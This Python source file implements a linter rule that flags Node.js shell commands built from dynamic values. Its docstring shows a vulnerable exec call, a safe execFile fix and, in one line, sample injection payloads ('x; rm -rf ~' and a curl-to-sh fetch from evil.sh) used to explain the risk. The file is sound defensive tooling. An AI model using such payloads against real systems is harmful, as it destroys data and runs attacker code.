"""## What it does
Finds Node.js commands run through a shell with a command line built from
values: ``child_process.exec``/``execSync`` (and ``cp.exec`` after
``const cp = require("child_process")``, ``exec`` imported from
``node:child_process``, ``util.promisify(exec)``'s result called ``exec``),
``spawn``/``spawnSync``/``execFile`` with ``shell: true``, ``spawn("sh",
["-c", cmd])``, and the ``shelljs`` and ``execa`` shell forms
(``shell.exec``, ``execaCommand``).  The command counts as built when it is
a template literal with ``${...}``, a ``+`` concatenation, ``.concat`` or
``util.format`` with a part that is not a constant, directly or through a
variable of the example.

## Why is this bad?
The shell parses the whole string: a file name such as ``x; rm -rf ~`` or
``$(curl evil.sh | sh)`` runs commands of the attacker's choosing.

## Example
```javascript
const { exec } = require("child_process");
exec(`convert ${req.query.file} thumb.png`, callback);
```

## Use instead
```javascript
const { execFile } = require("child_process");
execFile("convert", [req.query.file, "thumb.png"], callback);
```
Pass the program and its arguments separately (``execFile``, ``spawn``
without ``shell``); no shell parses them.

## References
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
- [Node.js docs: child_process.execFile](https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback)
"""

from __future__ import annotations

from typing import Any, Iterator, Optional

from ...languages.javascript import Call, JavaScriptView
from ...model import Hit
from ..registry import rule
from ._values import is_outside

SHELL_CALLS = frozenset({"exec", "execSync", "execaCommand", "execaCommandSync", "commandSync", "command"})
SHELL_MODULES = ("child_process", "shelljs", "execa", "util.promisify")
FILE_CALLS = frozenset({"spawn", "spawnSync", "execFile", "execFileSync", "execa", "execaSync", "fork"})
SHELLS = frozenset({"sh", "bash", "zsh", "/bin/sh", "/bin/bash", "cmd", "cmd.exe", "powershell", "pwsh"})


@rule(
    id="DSW002",
    symbol="js-command-injection",
    title="Node.js shell command built from values",
    severity="high",
    cwe=78,
    languages=("javascript",),
    equivalent="eslint-plugin-security detect-child-process",
    message="runs a shell command built from a value; pass the program and its arguments to execFile or spawn",
    use_instead='execFile("convert", [file, "thumb.png"], callback)',
    name_triggers=tuple(sorted({name.lower() for name in SHELL_CALLS | FILE_CALLS})),
)
def check(js: JavaScriptView) -> Iterator[Hit]:
    for call in js.calls_named(*SHELL_CALLS, *FILE_CALLS):
        command = _shell_command(js, call)
        if command is None:
            continue
        built, via = js.built_through(command)
        dynamic = [part for part in built.dynamic if is_outside(js, part)] if built is not None else []
        if built is not None and dynamic:
            yield Hit(js.line(call.node), js.column(call.node),
                      f"`{call.written}` runs a shell command built with {built.how}{via} from "
                      f"`{js.text_of(dynamic[0], 40)}`; pass the program and its arguments separately "
                      "(`execFile(program, [args])`) so no shell parses them")


def _shell_command(js: JavaScriptView, call: Call) -> Optional[Any]:
    """The string a shell will parse, or ``None`` when the call runs no shell."""
    if call.short in SHELL_CALLS:
        if call.short in ("command", "commandSync") and "execa" not in call.name:
            return None
        module = call.name.rsplit(".", 1)[0] if "." in call.name else ""
        resolved = call.name != call.short
        if resolved and not module.startswith(SHELL_MODULES) and module not in ("shell", "cp", "childProcess"):
            return None  # db.exec(sql), regex.exec(text), ...
        return call.argument(0)
    first, second = call.argument(0), call.argument(1)
    if first is not None and js.string_value(first) in SHELLS and second is not None and second.type == "array":
        items = [item for item in second.named_children if item.type != "comment"]
        flags = [js.string_value(item) for item in items]
        for index, flag in enumerate(flags[:-1]):
            if flag in ("-c", "/c", "-Command", "-lc"):
                return items[index + 1]
    for key, value, pair in js.properties:
        if key == "shell" and value.type == "true" and _inside(pair, call.node):
            return first
    return None


def _inside(node: Any, outer: Any) -> bool:
    return outer.start_byte <= node.start_byte and node.end_byte <= outer.end_byte
